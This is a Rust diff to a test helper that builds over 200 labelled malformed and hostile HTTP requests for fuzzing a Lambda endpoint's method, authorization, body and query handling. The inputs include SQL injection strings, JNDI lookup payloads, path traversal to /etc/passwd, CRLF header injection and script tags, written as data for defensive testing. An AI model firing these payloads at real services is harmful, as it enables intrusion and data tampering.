@@ -122,6 +122,7 @@ pub struct Event {
     cookies: Vec<String>,
     body: Option<String>,
     base64: bool,
+    query: String,
 }
 
 pub fn event(method: &str, path: &str) -> Event {
@@ -132,6 +133,7 @@ pub fn event(method: &str, path: &str) -> Event {
         cookies: vec![],
         body: None,
         base64: false,
+        query: String::new(),
     }
 }
 
@@ -149,6 +151,11 @@ impl Event {
 
     pub fn device_key(self, key: &str) -> Self {
         self.header("authorization", &format!("Bearer {key}"))
+    }
+
+    pub fn query(mut self, raw: &str) -> Self {
+        self.query = raw.to_owned();
+        self
     }
 
     pub fn text(mut self, body: &str) -> Self {
@@ -170,7 +177,7 @@ impl Event {
             "version": "2.0",
             "routeKey": format!("ANY {}", self.path),
             "rawPath": self.path,
-            "rawQueryString": "",
+            "rawQueryString": self.query,
             "cookies": self.cookies,
             "headers": self.headers,
             "requestContext": {
@@ -355,4 +362,151 @@ pub async fn put_secret(sdk: &aws_config::SdkConfig, name: &str, value: &str) {
             .await
             .expect("put secret");
     }
+}
+
+/// At least 200 malformed or hostile requests for an HTTP function at `path`
+/// whose only method is `method`, each labelled. `body_ok` says whether the
+/// function reads a body (the invite) or must refuse one (the count).
+pub fn hostile_requests(path: &str, method: &str, reads_body: bool) -> Vec<(String, Event)> {
+    let mut out: Vec<(String, Event)> = Vec::new();
+    let good = || event(method, path).device_key(DEVICE_KEY);
+    // Wrong methods, with and without a key and a body.
+    for m in ["GET", "POST", "PUT", "PATCH", "DELETE", "HEAD", "OPTIONS", "TRACE", "CONNECT", "FOO", "get", "P0ST"] {
+        if m == method {
+            continue;
+        }
+        out.push((format!("method {m}"), event(m, path).device_key(DEVICE_KEY)));
+        out.push((format!("method {m} without key"), event(m, path)));
+        out.push((format!("method {m} with body"), event(m, path).device_key(DEVICE_KEY).text("email=alice@example.com")));
+    }
+    // Device keys: missing, malformed, wrong, duplicated, oversized.
+    let long_key = "k".repeat(100_000);
+    let auth_values: Vec<String> = vec![
+        String::new(),
+        "Bearer".into(),
+        "Bearer ".into(),
+        "bearer".into(),
+        format!("Basic {DEVICE_KEY}"),
+        format!("Digest {DEVICE_KEY}"),
+        format!("Token {DEVICE_KEY}"),
+        DEVICE_KEY.into(),
+        format!("Bearer{DEVICE_KEY}"),
+        format!("Bearer {}", &DEVICE_KEY[..DEVICE_KEY.len() - 1]),
+        format!("Bearer {DEVICE_KEY}x"),
+        format!("Bearer {}", DEVICE_KEY.to_uppercase()),
+        format!("Bearer {} {}", DEVICE_KEY, DEVICE_KEY),
+        format!("Bearer {DEVICE_KEY},Bearer {DEVICE_KEY}"),
+        format!("Bearer {long_key}"),
+        // Control characters cannot reach a Lambda (HTTP parsers reject them); tabs can.
+        "Bearer \t\t".into(),
+        "Bearer ' OR '1'='1".into(),
+        "Bearer ../../etc/passwd".into(),
+        "Bearer ${jndi:ldap://x}".into(),
+        "Bearer 🔑🔑🔑🔑🔑🔑🔑🔑🔑🔑🔑🔑🔑🔑🔑🔑".into(),
+        "Bearer null".into(),
+        "Bearer undefined".into(),
+        format!("Bearer  {}", " ".repeat(50)),
+    ];
+    for (i, v) in auth_values.iter().enumerate() {
+        let e = event(method, path).header("authorization", v);
+        let e = if reads_body { e.header("content-type", "application/x-www-form-urlencoded").text("email=alice@example.com") } else { e };
+        out.push((format!("authorization #{i}"), e));
+    }
+    for h in ["x-api-key", "x-device-key", "cookie", "proxy-authorization"] {
+        out.push((format!("key in {h} instead"), event(method, path).header(h, DEVICE_KEY)));
+    }
+    out.push(("no headers at all".into(), event(method, path)));
+    // Bodies and content types.
+    let deep_json = format!("{}{}", "[".repeat(10_000), "]".repeat(10_000));
+    let deep_obj = format!("{}\"a@example.com\"{}", "{\"email\":".repeat(500), "}".repeat(500));
+    let mut bodies: Vec<(&str, String)> = vec![
+        ("whitespace", " \n\t ".into()),
+        ("huge form", format!("email={}", "a".repeat(1 << 20))),
+        ("huge json", format!("{{\"email\":\"{}@example.com\"}}", "a".repeat(1 << 20))),
+        ("deep array", deep_json),
+        ("deep object", deep_obj),
+        ("json array", "[\"alice@example.com\"]".into()),
+        ("json string", "\"alice@example.com\"".into()),
+        ("json number", "42".into()),
+        ("json null", "null".into()),
+        ("json true", "true".into()),
+        ("json extra field", "{\"email\":\"alice@example.com\",\"admin\":true}".into()),
+        ("json email number", "{\"email\":42}".into()),
+        ("json email null", "{\"email\":null}".into()),
+        ("json email object", "{\"email\":{\"$ne\":null}}".into()),
+        ("json email array", "{\"email\":[\"a@example.com\"]}".into()),
+        ("json duplicate key", "{\"email\":\"a@example.com\",\"email\":\"b@example.com\"}".into()),
+        ("json truncated", "{\"email\":\"a@exa".into()),
+        ("json trailing garbage", "{\"email\":\"a@example.com\"}xyz".into()),
+        ("json with BOM", "\u{feff}{\"email\":\"a@example.com\"}".into()),
+        ("form extra field", "email=alice@example.com&admin=1".into()),
+        ("form duplicate email", "email=alice@example.com&email=bob@example.com".into()),
+        ("form empty email", "email=".into()),
+        ("form no value", "email".into()),
+        ("form only ampersands", "&&&&".into()),
+        ("form bad percent", "email=%ZZ%@example.com".into()),
+        ("form encoded null", "email=alice%00@example.com".into()),
+        ("form crlf injection", "email=alice@example.com%0D%0ABcc:%20evil@example.com".into()),
+        ("form header injection", "email=alice@example.com\r\nX-Evil: 1".into()),
+        ("form sql injection", "email=' OR 1=1 --".into()),
+        ("form sql in local part", "email=a'%3B DROP TABLE users%3B--@example.com".into()),
+        ("form script", "email=<script>alert(1)</script>@example.com".into()),
+        ("form template", "email={join_url}@example.com".into()),
+        ("form jndi", "email=${jndi:ldap://evil/a}".into()),
+        ("form path traversal", "email=../../etc/passwd".into()),
+        ("form no at", "email=alice.example.com".into()),
+        ("form two ats", "email=a@b@example.com".into()),
+        ("form no domain dot", "email=alice@localhost".into()),
+        ("form leading dot", "email=.alice@example.com".into()),
+        ("form double dot", "email=al..ice@example.com".into()),
+        ("form space inside", "email=al%20ice@example.com".into()),
+        ("form quoted local", "email=\"alice\"@example.com".into()),
+        ("form ip literal", "email=alice@[127.0.0.1]".into()),
+        ("form idn homoglyph", "email=аlice@example.com".into()),
+        ("form emoji", "email=☕@example.com".into()),
+        ("form overlong local", format!("email={}@example.com", "a".repeat(65))),
+        ("form overlong total", format!("email=a@{}.com", "b".repeat(300))),
+        ("form overlong label", format!("email=a@{}.com", "b".repeat(64))),
+        ("form hyphen label", "email=a@-example.com".into()),
+        ("form unicode escapes", "email=\\u0061@example.com".into()),
+        ("form semicolon list", "email=a@example.com;b@example.com".into()),
+        ("form comma list", "email=a@example.com,b@example.com".into()),
+        ("xml", "<email>alice@example.com</email>".into()),
+    ];
+    if !reads_body {
+        bodies.push(("plain form body", "email=alice@example.com".into()));
+        bodies.push(("plain json body", "{\"email\":\"alice@example.com\"}".into()));
+    }
+    let content_types: &[Option<&str>] = if reads_body {
+        &[Some("application/x-www-form-urlencoded"), Some("application/json"), None]
+    } else {
+        &[None, Some("application/json")]
+    };
+    for (label, body) in &bodies {
+        for ct in content_types {
+            let e = good().text(body);
+            let e = match ct {
+                Some(c) => e.header("content-type", c),
+                None => e,
+            };
+            out.push((format!("{label} as {}", ct.unwrap_or("no content type")), e));
+        }
+        out.push((format!("{label} base64"), good().base64(body.as_bytes())));
+    }
+    for (i, bin) in [vec![0u8; 64], vec![0xff; 64], (0..=255u8).collect::<Vec<_>>(), b"email=\xff\xfe@example.com".to_vec(), vec![0xc3, 0x28], vec![0xed, 0xa0, 0x80]].iter().enumerate() {
+        out.push((format!("binary #{i}"), good().header("content-type", "application/x-www-form-urlencoded").base64(bin)));
+        out.push((format!("binary #{i} octet-stream"), good().header("content-type", "application/octet-stream").base64(bin)));
+    }
+    let valid = "email=alice@example.com";
+    for ct in ["multipart/form-data; boundary=x", "text/html", "application/xml", "image/png", "application/x-www-form-urlencoded, application/json", ";;;", "application/json; charset=utf-16"] {
+        let e = good().header("content-type", ct).text(if reads_body { valid } else { "x" });
+        out.push((format!("content type {ct}"), e));
+    }
+    out.push(("duplicated content type".into(), good().header("content-type", "application/json").header("content-type", "application/json").text("{}")));
+    if !reads_body {
+        for q in ["a=1", "meeting_id=1", "x", "count=999", "%ZZ", "&&", "callback=alert(1)"] {
+            out.push((format!("query {q}"), good().query(q)));
+        }
+    }
+    out
 }
